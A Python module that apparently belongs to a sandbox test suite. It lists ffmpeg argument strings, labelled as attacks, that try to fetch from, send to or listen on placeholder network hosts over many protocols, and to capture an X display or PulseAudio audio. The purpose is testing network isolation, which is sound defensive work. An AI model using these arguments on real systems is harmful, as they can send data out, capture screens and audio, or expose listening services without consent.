"""Attacks that use the network: fetching, sending, listening, DNS lookups."""

from __future__ import annotations

from security.attacks.attack import Attack

_IN = "-i tiny.mp4"
_COPY = f"{_IN} -c copy"
_BARS = "-f lavfi -i testsrc2=s=64x64:r=5:d=0.4"
_LONG = "-f lavfi -i testsrc2=s=64x64:r=5:d=1"
_NO = "-f null -"
_SOON = "-rw_timeout 500000"

ATTACKS = (
    Attack("fetching over HTTP", f"{_SOON} -i <http>/x {_NO}"),
    Attack("fetching over HTTPS", f"{_SOON} -i https://<tcp>/x {_NO}"),
    Attack("fetching over TCP", f"{_SOON} -i tcp://<tcp> {_NO}"),
    Attack("fetching over TLS without HTTP", f"{_SOON} -i tls://<tcp> {_NO}"),
    Attack("fetching by FTP", f"{_SOON} -i ftp://<tcp>/x {_NO}"),
    Attack("fetching by Gopher", f"{_SOON} -i gopher://<tcp>/x {_NO}"),
    Attack("fetching by RTMP", f"{_SOON} -i rtmp://<tcp>/a/b {_NO}"),
    Attack("fetching by RTMPT", f"{_SOON} -i rtmpt://<tcp>/a/b {_NO}"),
    Attack("fetching by RTSP", f"-timeout 500000 -rtsp_transport tcp -i rtsp://<tcp>/x {_NO}"),
    Attack("fetching by MMS", f"{_SOON} -i mmsh://<tcp>/x {_NO}"),
    Attack("fetching by SFTP", f"{_SOON} -i sftp://u:p@<tcp>/x {_NO}"),
    Attack("fetching from IPFS", f"-gateway <http> -i ipfs://QmX {_NO}"),
    Attack("fetching through an HTTP proxy", f"{_SOON} -http_proxy <http> -i http://canary.test/x {_NO}"),
    Attack("the httpproxy protocol", f"{_SOON} -i httpproxy://<tcp>/host:80 {_NO}"),
    Attack("fetching from a Unix socket", f"{_SOON} -i unix:<unix> {_NO}"),
    Attack("fetching by SRT", f"-i 'srt://<udp>?connect_timeout=300' {_NO}"),
    Attack("a protocol whitelist", f"-protocol_whitelist http,tcp {_SOON} -i <http>/x {_NO}"),
    Attack(
        "a protocol whitelist for the second input",
        f"{_IN} -protocol_whitelist http,tcp {_SOON} -i <http>/x {_NO}",
    ),
    Attack(
        "a URL in a concat list",
        "-f concat -safe 0 -protocol_whitelist file,http,tcp -i l.txt -c copy o.mp4",
        {"l.txt": "file '<http>/x.mp4'\n"},
    ),
    Attack(
        "a URL in the concat protocol",
        "-f mpegts -i 'concat:tiny.ts|<http>/x' -c copy o.ts",
        inert="concat joins files with files only",
    ),
    Attack("a URL behind the cache protocol", f"-i cache:<http>/x {_NO}"),
    Attack("a URL behind the async protocol", f"-i async:<http>/x {_NO}"),
    Attack("a URL in the movie filter", rf"-f lavfi -i 'movie=http\\://127.0.0.1\\:<port>/x' {_NO}"),
    Attack("a URL in the subtitles filter", rf"{_BARS} -vf 'subtitles=http\\://127.0.0.1\\:<port>/x' {_NO}"),
    Attack(
        "a URL in drawtext",
        rf"{_BARS} -vf 'drawtext=fontfile=<font>:textfile=http\\://127.0.0.1\\:<port>/x' {_NO}",
        inert="the filter opens files only",
    ),
    Attack("a URL as an attachment", f"{_IN} -attach <http>/x -metadata:s:t mimetype=text/plain -c copy o.mkv"),
    Attack("a DNS lookup for an input", f"-i http://<nobody>/ {_NO}"),
    Attack("a DNS lookup for an output", f"{_COPY} -f mpegts udp://<nobody>:9"),
    Attack("sending over HTTP", f"{_COPY} -f mpegts <http>/x"),
    Attack("sending over TCP", f"{_COPY} -f mpegts tcp://<tcp>"),
    Attack("sending over TLS", f"{_COPY} -f mpegts tls://<tcp>"),
    Attack("sending over UDP", f"{_COPY} -f mpegts udp://<udp>"),
    Attack(
        "sending over UDP-Lite",
        f"{_COPY} -f mpegts udplite://<udp>",
        inert="the server only receives UDP datagrams",
    ),
    Attack("sending to a Unix socket", f"{_COPY} -f mpegts unix:<unix>"),
    Attack("sending by RTP", f"{_COPY} -an -f rtp rtp://<udp>"),
    Attack("sending by RTP in MPEG-TS", f"{_COPY} -f rtp_mpegts rtp://<udp>"),
    Attack("sending by RTMP", f"{_SOON} {_COPY} -f flv rtmp://<tcp>/a/b"),
    Attack("sending by RTSP", f"{_COPY} -f rtsp -rtsp_transport tcp rtsp://<tcp>/x"),
    Attack("sending by SRT", f"{_COPY} -f mpegts 'srt://<udp>?connect_timeout=300'"),
    Attack("sending by RIST", f"{_COPY} -f mpegts rist://<udp>"),
    Attack("sending by FTP", f"{_COPY} -f mpegts ftp://<tcp>/x"),
    Attack("sending by SFTP", f"{_COPY} -f mpegts sftp://u:p@<tcp>/x"),
    Attack("sending by Icecast", f"{_IN} -vn -c:a libmp3lame -f mp3 icecast://u:p@<tcp>/x"),
    Attack("sending by WHIP", f"{_IN} -an -c:v libx264 -bf 0 -profile:v baseline -f whip <http>/x"),
    Attack("sending a playlist", f"{_COPY} -method PUT -f hls <http>/x.m3u8"),
    Attack("sending segments", f"{_COPY} -f hls -hls_segment_filename <http>/s%d.ts o.m3u8"),
    Attack("sending a manifest", f"{_COPY} -method PUT -f dash <http>/x.mpd"),
    Attack("sending by tee", f"{_COPY} -map 0 -f tee '[f=mpegts]tcp://<tcp>|[f=null]-'"),
    Attack("sending a hash", f"{_COPY} -f mpegts md5:tcp://<tcp>"),
    Attack("sending progress", f"{_IN} -progress <http>/x {_NO}"),
    Attack("sending statistics", f"{_IN} -c:v libx264 -stats_enc_post:v <http>/x {_NO}"),
    Attack("sending metadata", rf"{_BARS} -vf 'metadata=mode=print:file=http\\://127.0.0.1\\:<port>/x' {_NO}"),
    Attack("grabbing an X display", f"-f x11grab -i <display> -t 0.1 {_NO}"),
    Attack("recording from a PulseAudio server", f"-f pulse -server tcp:<tcp> -i default -t 0.1 {_NO}"),
    Attack("playing to a PulseAudio server", "-f lavfi -i sine=d=0.2 -f pulse -server tcp:<tcp> default"),
    Attack("a VAAPI device on an X display", f"-init_hw_device vaapi=d:<display> {_IN} {_NO}"),
    Attack("a zmq filter that listens", rf"-re {_LONG} -vf 'zmq=bind_address=tcp\\://127.0.0.1\\:<listen>' {_NO}"),
    Attack(
        "an azmq filter that listens",
        rf"-re -f lavfi -i sine=d=1 -af 'azmq=bind_address=tcp\\://127.0.0.1\\:<listen>' {_NO}",
    ),
    Attack("a zmq output that listens", f"-re {_COPY} -f mpegts zmq:tcp://127.0.0.1:<listen>"),
    Attack("listening for RTSP", f"-rtsp_flags listen -listen_timeout 1 -i rtsp://127.0.0.1:<listen>/x {_NO}"),
    Attack("listening for HTTP", f"-listen 1 -timeout 1 -i http://127.0.0.1:<listen>/x {_NO}"),
    Attack("listening for RTMP", f"-listen 1 -timeout 1 -i rtmp://127.0.0.1:<listen>/x {_NO}"),
    Attack("listening for TCP", f"-i 'tcp://127.0.0.1:<listen>?listen=1&listen_timeout=500' {_NO}"),
    Attack("listening for UDP", f"-i 'udp://127.0.0.1:<listen>?timeout=300000' {_NO}"),
    Attack("listening for RTP", f"-f rtp -rw_timeout 300000 -i rtp://127.0.0.1:<listen> -t 0.1 {_NO}"),
)
